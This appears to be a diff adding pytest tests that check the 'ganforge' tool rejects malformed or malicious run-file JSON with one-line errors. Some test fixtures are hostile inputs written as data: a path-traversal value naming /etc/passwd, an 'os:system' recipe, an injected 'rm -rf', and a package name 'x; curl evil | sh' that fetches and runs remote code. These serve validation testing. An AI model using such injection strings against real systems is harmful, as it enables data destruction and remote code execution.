@@ -222,3 +222,81 @@ def test_check_device_name_does_not_import_torch():
             "assert c('cuda:3') == ('cuda', 3) and c('auto') == ('auto', None); assert 'torch' not in sys.modules")
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
     assert result.returncode == 0, result.stderr
+
+
+# ---------------------------------------------------------------------------- run files
+
+def copy_run(toy, tmp_path, change=None):
+    run = tmp_path / "run"
+    shutil.copytree(toy / "run", run)
+    if change is not None:
+        info = json.loads((run / "ganforge.json").read_text())
+        info = change(info)
+        (run / "ganforge.json").write_text(info if isinstance(info, str) else json.dumps(info))
+    return run
+
+
+def _without(key, inner=None):
+    def change(info):
+        (info[inner] if inner else info).pop(key)
+        return info
+    return change
+
+
+def _setting(value, key, inner=None):
+    def change(info):
+        (info[inner] if inner else info)[key] = value
+        return info
+    return change
+
+
+BAD_RUN_FILES = [
+    ("list", lambda info: [info], "JSON list, not an object"),
+    ("number", lambda info: 7, "JSON number, not an object"),
+    ("no components", _without("components"), "'components' is missing"),
+    ("no modality_state", _without("modality_state"), "'modality_state' is missing"),
+    ("no config", _without("config"), "'config' is missing"),
+    ("no user_config", _without("user_config"), "'user_config' is missing"),
+    ("config a list", _setting([1], "config"), "'config' is not an object"),
+    ("modality_state a string", _setting("x", "modality_state"), "'modality_state' is not an object"),
+    ("components a list", _setting(["toy:mlp"], "components"), "'components' is not an object"),
+    ("component a number", _setting(3, "generator", "components"), "component 'generator' 3 is not a plugin:name"),
+    ("no generator", _without("generator", "components"), "'components' has no 'generator'"),
+    ("component a path", _setting("../../etc:passwd", "generator", "components"), "is not a plugin:name"),
+    ("recipe os:system", _setting("os:system", "recipe"), "names plugin 'os', which its 'plugins' does not list"),
+    ("recipe not plugin:name", _setting("toy-ring", "recipe"), "'recipe' \"toy-ring\" is not a plugin:name"),
+    ("recipe with spaces", _setting("toy:a b; rm -rf", "recipe"), "is not a plugin:name"),
+    ("recipe a dict", _setting({"a": 1}, "recipe"), "is not a plugin:name"),
+    ("plugins a list", _setting([], "plugins"), "'plugins' is not an object of objects"),
+    ("pip name injection", _setting({"toy": {"distribution": "x; curl evil | sh", "version": "1"}}, "plugins"),
+     "is not a package name or version"),
+    ("format version true", _setting(True, "format_version"), "format version true"),
+]
+
+
+@pytest.mark.parametrize("change,fragment", [(c, f) for _, c, f in BAD_RUN_FILES], ids=[n for n, _, _ in BAD_RUN_FILES])
+def test_bad_run_files_are_one_line_errors(toy, tmp_path, capsys, change, fragment):
+    from ganforge.artifacts import read_run_json
+
+    run = copy_run(toy, tmp_path, change)
+    with pytest.raises(GanforgeError) as info:
+        read_run_json(run)
+    assert fragment in str(info.value) and "\n" not in str(info.value)
+    line = one_line_error(capsys, "generate", run, "--out", tmp_path / "g", fragments=[fragment])
+    assert str(run / "ganforge.json") in line
+    if "format version" not in fragment:
+        assert "is not a valid ganforge run file" in line
+
+
+def test_valid_run_file_reads_as_before(toy):
+    from ganforge.artifacts import read_run_json
+
+    assert read_run_json(toy / "run") == json.loads((toy / "run" / "ganforge.json").read_text())
+
+
+def test_resume_and_evaluate_read_run_files_the_same_way(toy, tmp_path, capsys):
+    run = copy_run(toy, tmp_path, _without("user_config"))
+    one_line_error(capsys, *train_args(toy, run), "--resume", fragments=["'user_config' is missing"])
+    one_line_error(capsys, "evaluate", run, "--data", toy / "ring", fragments=["'user_config' is missing"])
+    (run / "ganforge.json").write_bytes(b"\xff\xfe")
+    one_line_error(capsys, "generate", run, "--out", tmp_path / "g", fragments=["is corrupt"])
